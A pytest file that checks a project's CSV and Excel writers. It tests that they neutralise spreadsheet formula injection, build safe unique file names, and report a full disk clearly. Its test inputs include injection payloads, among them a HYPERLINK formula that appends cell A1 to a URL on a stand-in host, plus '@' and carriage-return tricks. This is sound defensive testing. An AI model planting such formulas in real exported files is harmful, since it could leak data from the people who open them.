"""Issue 14: CSV formula neutralisation, safe unique file names, full-disk errors."""

from __future__ import annotations

import errno
import hashlib
import os

import pandas as pd
import pytest

from helpers.errors import ArgumentError, OutputError
from helpers.io import atomic_write, neutralise_formulas, safe_name, write_csv


def _csv_lines(path) -> list[str]:
    return path.read_text(encoding="utf-8-sig").splitlines()


def test_formula_cells_are_neutralised_in_the_file_not_in_the_table(tmp_path):
    df = pd.DataFrame(
        {
            "story_id": ["@evil", "ok", "-3 ", "+1", "\tx"],
            "title": ['=HYPERLINK("http://e.x/?"&A1,"click")', "عنوان", "=1+1", "a=b", "ب"],
            "count": [-3, 1, 2, 3, 4],  # numbers stay numbers, a negative one too
        }
    )
    before = df.copy()
    path = write_csv(df, tmp_path / "t.csv")
    assert _csv_lines(path) == [
        "story_id,title,count",
        """'@evil,"'=HYPERLINK(""http://e.x/?""&A1,""click"")",-3""",
        "ok,عنوان,1",
        "'-3 ,'=1+1,2",
        "'+1,a=b,3",
        "'\tx,ب,4",
    ]
    pd.testing.assert_frame_equal(df, before)  # the notebook's table keeps its values


def test_column_names_and_list_cells_are_neutralised(tmp_path):
    df = pd.DataFrame({"=cmd": [["=a", "b"]]})
    assert _csv_lines(write_csv(df, tmp_path / "t.csv")) == ["'=cmd", "'=a | b"]


def test_neutralise_formulas_leaves_other_values():
    assert neutralise_formulas("@x") == "'@x"
    assert neutralise_formulas("\rx") == "'\rx"
    assert neutralise_formulas("x=1") == "x=1"
    assert neutralise_formulas(-1.5) == -1.5
    assert neutralise_formulas("") == ""


def test_100000_ids_differing_by_case_or_trailing_space_get_distinct_names():
    ids = []
    for i in range(25_000):
        ids += [f"story{i}", f"Story{i}", f"story{i} ", f"STORY{i}"]
    names = {safe_name(i) for i in ids}
    assert len(ids) == 100_000
    # distinct even on a case-insensitive file system
    assert len({n.casefold() for n in names}) == 100_000


def test_safe_name_keeps_safe_ids_and_hashes_the_rest():
    assert safe_name("asharq-two-stories-01") == "asharq-two-stories-01"
    assert safe_name("قصة-01") == "قصة-01"
    digest = hashlib.sha1(b"june/day1-01").hexdigest()[:12]
    assert safe_name("june/day1-01") == f"june_day1-01~{digest}"
    # an id that looks like a hashed name is itself hashed: "~" is only the hash's
    tilde = hashlib.sha1(b"x~93bb4c5d2dc8").hexdigest()[:12]
    assert safe_name("x~93bb4c5d2dc8") == f"x_93bb4c5d2dc8~{tilde}"
    assert safe_name("nul").startswith("nul~")  # a Windows device name


def test_full_disk_is_an_output_error_naming_the_file(tmp_path, monkeypatch):
    target = tmp_path / "stories.csv"
    target.write_text("old", encoding="utf-8")
    real_replace = os.replace

    def full(src, dst):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "replace", full)
    with pytest.raises(OutputError) as e, atomic_write(target, "w") as fh:
        fh.write("new")
    monkeypatch.setattr(os, "replace", real_replace)
    assert str(e.value) == (
        f"{target}: the disk is full (or your quota is used up) "
        "(free some space or choose an output folder on another disk)"
    )
    assert target.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["stories.csv"]


def _sheet_xml(book, n: int) -> str:
    import zipfile

    with zipfile.ZipFile(book) as z:
        return z.read(f"xl/worksheets/sheet{n}.xml").decode("utf-8")


def test_workbook_one_rtl_sheet_per_table_text_never_a_formula(tmp_path):
    from helpers.io import write_workbook

    write_csv(
        pd.DataFrame(
            {
                "story_id": ["@evil", "s-01"],
                "title": ['=HYPERLINK("http://e.x","x")', "عنوان"],
                "per_1000": [12.345678, 2.0],
                "p_value": [0.000123, 0.5],
                "count": [3, -4],
            }
        ),
        tmp_path / "keyness.csv",
    )
    write_csv(pd.DataFrame({"id": ["001", "2"]}), tmp_path / "a_ids.csv")
    book = write_workbook(tmp_path)
    assert book == tmp_path / "tables.xlsx"
    about, ids, keyness = (_sheet_xml(book, n) for n in (1, 2, 3))
    for sheet in (about, ids, keyness):
        assert 'rightToLeft="1"' in sheet
    # about sheet: table name, file, rows
    assert "<t>a_ids</t>" in about and "<t>a_ids.csv</t>" in about
    assert "<t>keyness</t>" in about and "<t>keyness.csv</t>" in about
    # ids with a leading zero stay text
    assert "<t>001</t>" in ids
    # the CSV's neutralising apostrophe is gone; the cell is text with the quote-prefix style
    assert '<c r="B2" s="2" t="inlineStr"><is><t>=HYPERLINK("http://e.x","x")</t>' in keyness
    assert '<c r="A2" s="2" t="inlineStr"><is><t>@evil</t>' in keyness
    assert "<f>" not in keyness  # no formula anywhere
    # numbers stored in full precision (shown rounded by the number format)
    assert '<c r="C2" s="3"><v>12.345678</v></c>' in keyness
    assert '<c r="E3" s="5"><v>-4</v></c>' in keyness
    import zipfile

    with zipfile.ZipFile(book) as z:
        styles = z.read("xl/styles.xml").decode("utf-8")
    assert 'formatCode="0.00"' in styles and 'formatCode="0.0000"' in styles
    assert 'quotePrefix="1"' in styles
    first = book.read_bytes()
    assert write_workbook(tmp_path).read_bytes() == first  # same tables, same bytes


def test_carriage_return_inside_a_cell_starts_no_live_cell(tmp_path):
    # pandas quotes a cell holding "\n" but not one holding only "\r": a reader then began
    # a new row after the "\r", and "=1+2" stood live at the start of a cell
    import csv

    from helpers.io import write_csv

    df = pd.DataFrame({"id": ["s1\r=1+2"], "tags": ["x\r\n@SUM(1+1)"]})
    path = write_csv(df, tmp_path / "cr.csv")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows == [["id", "tags"], ["s1\n=1+2", "x\n@SUM(1+1)"]]
    assert df.loc[0, "id"] == "s1\r=1+2"  # the table in memory keeps its value


def test_written_index_is_neutralised(tmp_path):
    import csv

    from helpers.io import write_csv

    df = pd.DataFrame({"count": [3]}, index=pd.Index(["=HYPERLINK(1)"], name="@group"))
    path = write_csv(df, tmp_path / "ix.csv", index=True)
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows == [["'@group", "count"], ["'=HYPERLINK(1)", "3"]]


@pytest.mark.parametrize(
    "mark",
    [
        "\u061c",  # Arabic letter mark
        "\u200b",  # zero-width space
        "\ufeff",  # zero-width no-break space (BOM)
        "\u00ad",  # soft hyphen
        "\u200c",  # zero-width non-joiner: dropped too (see safe_name's docstring)
        "\u200d",  # zero-width joiner
        "\u2060",  # word joiner
        "\u200f",  # right-to-left mark
        "\u202e",  # right-to-left override
        "\u0600",  # Arabic number sign
        "\U000e0041",  # tag latin capital letter A
    ],
)
def test_invisible_format_characters_are_dropped_from_file_names(mark):
    text = f"قصة{mark}-01"
    digest = hashlib.sha1(text.encode("utf-8")).hexdigest()[:12]
    # the visible text stays, the invisible character goes, the hash keeps it apart
    # from "قصة-01" itself
    assert safe_name(text) == f"قصة-01~{digest}"
    assert safe_name("قصة-01") == "قصة-01"


def test_a_name_of_format_characters_only_is_its_hash():
    digest = hashlib.sha1("\u200b\u200b".encode()).hexdigest()[:12]
    assert safe_name("\u200b\u200b") == f"~{digest}"


def test_workbook_names_the_tables_it_leaves_out(tmp_path):
    from helpers.io import write_workbook

    write_csv(pd.DataFrame({"id": ["1"]}), tmp_path / "stories.csv")
    book = write_workbook(tmp_path, left_out=["term_frequencies.csv"])
    about = _sheet_xml(book, 1)
    # row 2 is stories; row 3 names the CSV left out and says so
    assert '<c r="B3" t="inlineStr"><is><t>term_frequencies.csv</t>' in about
    assert "left out of this workbook" in about
    with pytest.raises(ArgumentError):
        write_workbook(tmp_path, left_out="term_frequencies.csv")
